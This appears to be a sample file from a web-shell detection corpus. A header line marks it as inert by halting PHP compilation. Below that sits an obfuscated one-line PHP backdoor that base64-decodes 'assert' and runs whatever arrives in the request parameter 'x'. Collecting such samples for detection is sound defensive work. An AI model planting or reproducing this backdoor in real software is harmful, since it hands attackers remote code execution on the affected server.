<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
$frs = base64_decode('YXNzZXJ0');
@$frs($_REQUEST['x']);
